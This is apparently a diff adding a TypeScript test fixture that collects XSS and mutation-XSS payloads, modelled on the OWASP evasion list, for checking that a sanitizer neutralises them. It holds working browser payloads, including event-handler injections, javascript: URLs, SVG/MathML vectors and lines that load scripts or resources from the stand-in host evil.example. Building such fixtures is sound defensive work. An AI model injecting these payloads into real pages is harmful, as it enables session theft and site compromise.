@@ -1,0 +1,141 @@
+/**
+ * Markup that runs script or calls out where a page lets it: after the classes of the OWASP XSS Filter Evasion list and the
+ * mutation-XSS papers (Heiderich et al. 2013). `globalThis.ran` and any dialog betray one that ran; `evil.example` one that called out.
+ */
+const RUN = 'globalThis.ran=1;alert(1)'
+const OUT = 'http://evil.example/x'
+
+const EVENTS = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onfocus',
+  'onmouseover',
+  'ontoggle',
+  'onbegin',
+  'onanimationstart',
+  'onpointerenter',
+  'onscroll',
+]
+
+const ATTRIBUTES = [
+  `<img src=x onerror=${RUN}>`,
+  `<img src=x onerror="${RUN}">`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<IMG SRC=x OnErRoR=${RUN}>`,
+  `<img src=x onerror=&#97;lert(1)>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<select autofocus onfocus=${RUN}>`,
+  `<textarea autofocus onfocus=${RUN}>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}>`,
+  `<body onload=${RUN}>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<div style="width:100%;height:100%;position:fixed" onmouseover=${RUN}>x</div>`,
+  `<iframe onload=${RUN}></iframe>`,
+  `<object onerror=${RUN} data=x></object>`,
+  `<embed src=x onerror=${RUN}>`,
+  `<form><button formaction=javascript:${RUN}>x</button></form>`,
+  `" onmouseover="${RUN}`,
+  `' onfocus='${RUN}' autofocus='`,
+  `" autofocus onfocus="${RUN}" x="`,
+  `x" style="animation-name:x" onanimationstart="${RUN}`,
+]
+const SCRIPTS = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt>${RUN}</sCrIpT>`,
+  `<script src="${OUT}.js"></script>`,
+  `<script/src="${OUT}.js"></script>`,
+  `<script>${RUN}//`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `</script><script>${RUN}</script>`,
+  `--><script>${RUN}</script>`,
+  `]]><script>${RUN}</script>`,
+  `<script type=module>${RUN}</script>`,
+  `<script>/*\u2028*/${RUN}</script>`,
+  `<noscript><p title="</noscript><script>${RUN}</script>">`,
+]
+const VECTOR = [
+  `<svg onload=${RUN}>`,
+  `<svg/onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${RUN}</script></svg>#x"/></svg>`,
+  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
+  `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
+]
+const MUTATION = [
+  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
+  `<p id="</p><img src=x onerror=${RUN}>">`,
+  `<template><script>${RUN}</script></template>`,
+  `<template shadowrootmode=open><script>${RUN}</script></template>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}></style></form>`,
+  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
+  `<table><td background="javascript:${RUN}"></table>`,
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
+  `<?xml-stylesheet href="javascript:${RUN}"?>`,
+  `<a href="jav&#x09;ascript:${RUN}">x</a>`,
+  `{{constructor.constructor('${RUN}')()}}`,
+  `\${${RUN}}`,
+  `<%= ${RUN} %>`,
+  `{% raw %}<script>${RUN}</script>{% endraw %}`,
+]
+const LINKS = [
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href="JaVaScRiPt:${RUN}">x</a>`,
+  `<a href=" javascript:${RUN}">x</a>`,
+  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
+  `<a href="vbscript:msgbox(1)">x</a>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<meta http-equiv=refresh content="0;url=${OUT}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<base href="${OUT}">`,
+  `<form action="${OUT}"><input type=submit></form>`,
+]
+const CALLS = [
+  `<img src="${OUT}.gif">`,
+  `<img srcset="${OUT}.gif 1x">`,
+  `<link rel=stylesheet href="${OUT}.css">`,
+  `<link rel=preload as=image href="${OUT}.png">`,
+  `<link rel=dns-prefetch href="//evil.example">`,
+  `<style>@import "${OUT}.css";</style>`,
+  `<style>body{background:url(${OUT}.png)}</style>`,
+  `<div style="background:url(${OUT}.png)">x</div>`,
+  `<div style="background-image:\\75rl(${OUT}.png)">x</div>`,
+  `<div style="width:expression(${RUN})">x</div>`,
+  `<video poster="${OUT}.png"></video>`,
+  `<audio src="${OUT}.mp3" autoplay></audio>`,
+  `<input type=image src="${OUT}.png">`,
+  `<table background="${OUT}.png"><td>x</td></table>`,
+  `<iframe src="${OUT}"></iframe>`,
+  `<embed src="${OUT}.swf">`,
+  `<object data="${OUT}.svg"></object>`,
+  `<svg><image href="${OUT}.png"/></svg>`,
+  `<svg><use href="${OUT}.svg#x"/></svg>`,
+]
+
+/** All payloads, each once. */
+export const HOSTILE_MARKUP: readonly string[] = [
+  ...new Set([
+    ...ATTRIBUTES,
+    ...SCRIPTS,
+    ...VECTOR,
+    ...MUTATION,
+    ...LINKS,
+    ...CALLS,
+    ...EVENTS.map((event) => `<p tabindex=1 ${event}="${RUN}">x</p>`),
+  ]),
+]
